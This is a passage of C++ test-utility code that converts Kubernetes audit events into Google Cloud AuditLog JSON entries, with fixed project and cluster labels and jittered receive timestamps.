    const std::string group = field("apiGroup"), version = field("apiVersion"), resource = field("resource"),
                      ns = field("namespace"), name = field("name"), sub = field("subresource");
    const std::string verb = ev["verb"].get<std::string>();

    std::string method = method_prefix(group) + "." + version + "." + resource;
    if (!sub.empty()) method += "." + sub;
    method += "." + verb;
    std::string resource_name = (group.empty() ? std::string("core") : group) + "/" + version;
    if (!ns.empty()) resource_name += "/namespaces/" + ns;
    resource_name += "/" + resource;
    if (!name.empty()) resource_name += "/" + name;
    if (!sub.empty()) resource_name += "/" + sub;

    json payload;
    payload["@type"] = "type.googleapis.com/google.cloud.audit.AuditLog";
    payload["authenticationInfo"] = json{{"principalEmail", ev["user"]["username"]}};
    payload["authorizationInfo"] =
        json::array({json{{"granted", true}, {"permission", method}, {"resource", resource_name}}});
    payload["methodName"] = method;
    if (ev.contains("requestObject"))
      payload["request"] = typed(ev["requestObject"], proto_type(group, version, ev["requestObject"]));
    json metadata;
    metadata["callerIp"] = ev["sourceIPs"][0];
    metadata["callerSuppliedUserAgent"] = ev["userAgent"];
    payload["requestMetadata"] = std::move(metadata);
    payload["resourceName"] = resource_name;
    if (ev.contains("responseObject"))
      payload["response"] = typed(ev["responseObject"], proto_type(group, version, ev["responseObject"]));
    payload["serviceName"] = "k8s.io";
    const int code = ev["responseStatus"]["code"].get<int>();
    json status;
    status["code"] = rpc_of_http(code);
    if (code >= 400) status["message"] = http_reason(code);
    payload["status"] = std::move(status);

    const std::string audit_id = ev["auditID"].get<std::string>();
    json entry;
    entry["protoPayload"] = std::move(payload);
    entry["insertId"] = audit_id;
    entry["resource"] = json{{"type", "k8s_cluster"},
                             {"labels", json{{"project_id", "mg-kubeflow-prj"},
                                             {"location", "us-central1-a"},
                                             {"cluster_name", "mg-kubeflow"}}}};
    entry["timestamp"] = ev["requestReceivedTimestamp"];
    entry["labels"] = ev["annotations"];
    entry["logName"] = std::string("projects/mg-kubeflow-prj/logs/cloudaudit.googleapis.com%2F") +
                       (is_read(verb) ? "data_access" : "activity");
    entry["operation"] = json{{"id", audit_id}, {"producer", "k8s.io"}, {"first", true}, {"last", true}};
    const std::uint64_t h = mix(index);
    entry["receiveTimestamp"] =
        rfc3339(e.time_us + 1500 * kMs + static_cast<std::int64_t>(h % (2000 * kMs)), 9, static_cast<int>(h >> 40) % 1000);
    out += entry.dump();
    out += '\n';
  }
  return out;
}

}  // namespace mg::audit::testing
